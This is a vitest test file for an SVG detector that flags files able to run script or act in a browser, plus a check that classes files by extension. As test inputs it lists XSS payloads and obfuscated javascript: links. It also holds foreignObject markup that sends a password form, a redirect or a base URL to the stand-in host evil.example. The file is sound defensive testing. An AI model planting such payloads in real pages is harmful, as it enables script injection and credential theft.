import { describe, expect, it } from 'vitest';
import { runsInBrowser, svgRuns } from './held-files.ts';

describe('svgRuns', () => {
  it('finds scripts, handlers and script links however they are spelled', () => {
    for (const svg of [
      '<svg><script>alert(1)</script></svg>',
      '<svg><svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script></svg>',
      '<svg onload="alert(1)"/>',
      '<svg><rect\nONCLICK = "alert(1)"/></svg>',
      '<svg><a href="java&#x73;cript:alert(1)"><text>x</text></a></svg>',
      '<svg><a href="java&#10;script:alert(1)"><text>x</text></a></svg>',
      '<svg><a xlink:href=" JavaScript:alert(1)"/></svg>',
      '<svg><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject></svg>',
      '<svg><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="refresh" content="0;url=https://evil.example/"/></div></foreignObject></svg>',
      '<svg><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="password"/></form></foreignObject></svg>',
      '<svg><foreignObject><h:base xmlns:h="http://www.w3.org/1999/xhtml" href="https://evil.example/"/></foreignObject></svg>',
      '<svg><foreignObject><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/a.css"/></foreignObject></svg>',
      '<svg><foreignObject><object xmlns="http://www.w3.org/1999/xhtml" data="page.html"/></foreignObject></svg>',
      '<svg><foreignObject><a xmlns="http://www.w3.org/1999/xhtml" href="javascript:alert(1)">x</a></foreignObject></svg>',
      '<svg><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></svg>',
      '<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;">]><svg>&x;</svg>',
      '<?xml-stylesheet type="text/xsl" href="run.xsl"?><svg/>',
    ])
      expect(svgRuns(svg), svg).toBe(true);
  });

  it('leaves a diagram alone, words that hold "script" or "on" included', () => {
    const diagram =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><title>Subscription, description and transcript</title><a xlink:href="https://example.com/on=1"><text font-family="sans-serif">Based on data = 3 &#8594; 4 &amp; more</text></a></svg>';
    expect(svgRuns(diagram)).toBe(false);
  });

  it('leaves alone the HTML labels draw.io and Mermaid write in <foreignObject>', () => {
    // As draw.io exports a box, its source in `content` and its fallback link included.
    const drawio =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1" width="121px" height="61px" viewBox="-0.5 -0.5 121 61" content="&lt;mxfile host=&quot;app.diagrams.net&quot;&gt;&lt;diagram id=&quot;a&quot; name=&quot;Page-1&quot;&gt;&lt;mxGraphModel&gt;&lt;root&gt;&lt;mxCell id=&quot;2&quot; value=&quot;Load balancer&amp;lt;br&amp;gt;(nginx)&quot; style=&quot;rounded=1;whiteSpace=wrap;html=1;&quot; vertex=&quot;1&quot; parent=&quot;1&quot;/&gt;&lt;/root&gt;&lt;/mxGraphModel&gt;&lt;/diagram&gt;&lt;/mxfile&gt;"><defs/><g><rect x="0" y="0" width="120" height="60" rx="9" fill="#ffffff" stroke="#000000" pointer-events="all"/><g transform="translate(-0.5 -0.5)"><switch><foreignObject pointer-events="none" width="100%" height="100%" requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility" style="overflow: visible; text-align: left;"><div xmlns="http://www.w3.org/1999/xhtml" style="display: flex; align-items: unsafe center; justify-content: unsafe center; width: 118px; height: 1px; padding-top: 30px; margin-left: 1px;"><div data-drawio-colors="color: rgb(0, 0, 0); " style="box-sizing: border-box; font-size: 0px; text-align: center;"><div style="display: inline-block; font-size: 12px; font-family: Helvetica; color: rgb(0, 0, 0); line-height: 1.2; pointer-events: all; white-space: normal; overflow-wrap: normal;">Load balancer<br/>(nginx)</div></div></div></foreignObject><text x="60" y="34" fill="rgb(0, 0, 0)" font-family="Helvetica" font-size="12px" text-anchor="middle">Load balancer...</text></switch></g></g><switch><g requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility"/><a transform="translate(0,-5)" xlink:href="https://www.drawio.com/doc/faq/svg-export-text-problems" target="_blank"><text text-anchor="middle" font-size="10px" x="50%" y="100%">Text is not SVG - cannot display</text></a></switch></svg>';
    const mermaid =
      '<svg id="my-svg" width="100%" xmlns="http://www.w3.org/2000/svg" class="flowchart" style="max-width: 200px;" viewBox="0 0 200 100" role="graphics-document document" aria-roledescription="flowchart-v2"><style>#my-svg{font-family:"trebuchet ms",verdana,arial,sans-serif;font-size:16px;fill:#333;}</style><g class="nodes"><g class="node default" id="flowchart-A-0" transform="translate(50, 50)"><rect class="basic label-container" x="-40" y="-20" width="80" height="40"/><g class="label" transform="translate(-20, -12)"><foreignObject width="40" height="24"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel"><p>Client</p></span></div></foreignObject></g></g></g><metadata><linearGradient id="g"/></metadata></svg>';
    expect(svgRuns(drawio)).toBe(false);
    expect(svgRuns(mermaid)).toBe(false);
  });
});

describe('runsInBrowser', () => {
  it('holds what hosts type as a page, an XML document or a script, and no picture or text', () => {
    for (const name of ['a.html', 'a.XHTML', 'a.js', 'a.mjs', 'a.xml', 'a.rng', 'a.xsd', 'a.ecma'])
      expect(runsInBrowser(`/nowhere/${name}`), name).toBe(true);
    for (const name of ['a.png', 'a.jpg', 'a.pdf', 'a.txt', 'a.css', 'a.json', 'CNAME', 'a.webm'])
      expect(runsInBrowser(`/nowhere/${name}`), name).toBe(false);
  });
});
